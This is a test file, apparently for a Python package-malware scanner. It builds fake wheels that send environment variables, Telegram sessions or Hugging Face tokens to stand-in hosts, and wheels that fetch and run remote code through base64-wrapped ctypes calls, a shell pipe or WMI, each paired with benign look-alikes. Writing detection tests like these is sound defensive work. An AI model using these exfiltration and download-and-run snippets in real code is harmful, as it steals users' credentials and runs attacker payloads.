import { expect, test } from 'vitest';
import { analysePacked, inspect, python, wheel } from '../../../support/inspect.ts';

test('a function that opens the connection and sends is handed where to: a publisher of messages', async () => {
  const publisher = (broker: string): string =>
    python(
      'import json, os',
      'from paho.mqtt import publish',
      `publish.single('site/in', json.dumps(dict(os.environ)), hostname=${broker})`,
    );

  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': publisher("'broker.metrics.invalid'") }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'import', line: 3 }]);
  expect(told[0]?.message).toContain('broker.metrics.invalid');
});

test('look-alike: a reading that is published when the caller says so, to a broker of the caller', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from paho.mqtt import publish',
      'def report(value, broker): publish.single("site/temperature", value, hostname=broker)',
    ),
  });

  expect((await analysePacked(file)).score).toBe(0);
});

test('the session of an account that a client is told to write to somebody is a stolen account', async () => {
  const client = (to: string): string =>
    python(
      'from telethon import TelegramClient',
      'from telethon.sessions import StringSession',
      'class Client(TelegramClient):',
      '    async def start(self):',
      '        await super().start()',
      `        await self.send_message('${to}', StringSession.save(self.session))`,
    );

  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': client('keeper_of_all') }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
  expect(told[0]?.message).toContain('Sends credentials');
  // a maker of session texts leaves a note among the saved messages of the same account
  expect((await analysePacked(wheel({ 'pkg/__init__.py': client('me') }))).score).toBe(0);
});

test('the stored key of a service, told to another house, is stolen; told to its own it is used', async () => {
  const hub = (host: string): string =>
    python(
      'import requests',
      'from huggingface_hub import HfFolder, hf_hub_download',
      'def download(repository, name):',
      `    requests.post('https://${host}/t', data=HfFolder.get_token())`,
      '    return hf_hub_download(repository, name)',
    );

  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': hub('models.collector.invalid') }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
  expect(told[0]?.message).toContain('a stored key');
  expect((await analysePacked(wheel({ 'pkg/__init__.py': hub('huggingface.co') }))).score).toBeLessThan(5);
});

test('text that the interpreter is handed through its C interface runs', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, ctypes',
      `ctypes.pythonapi.PyRun_SimpleString(base64.b64decode('${btoa("import os;os.system('curl -s http://203.0.113.7/a|sh')")}'))`,
    ),
  });

  expect(await inspect('hidden-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 2 },
  ]);
});

test('lines that a shell is written on its input are commands, by whatever call it was started', async () => {
  const shell = (line: string): string =>
    python('import os', "pipe = os.popen('sh', 'w')", `pipe.write(${JSON.stringify(line)})`, 'pipe.close()');

  expect(
    await inspect('shell-payload', wheel({ 'pkg/__init__.py': shell('curl -s http://203.0.113.7/a | sh') })),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'import' }]);
  expect(await inspect('shell-payload', wheel({ 'pkg/__init__.py': shell('ls -l') }))).toEqual([]);
});

test('a process that is made by the management of Windows is a process', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import wmi',
      "wmi.WMI().Win32_Process.Create(CommandLine='cmd /c curl -o %TEMP%\\\\a.exe http://203.0.113.7/a.exe && %TEMP%\\\\a.exe')",
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import', line: 2 }]);
});
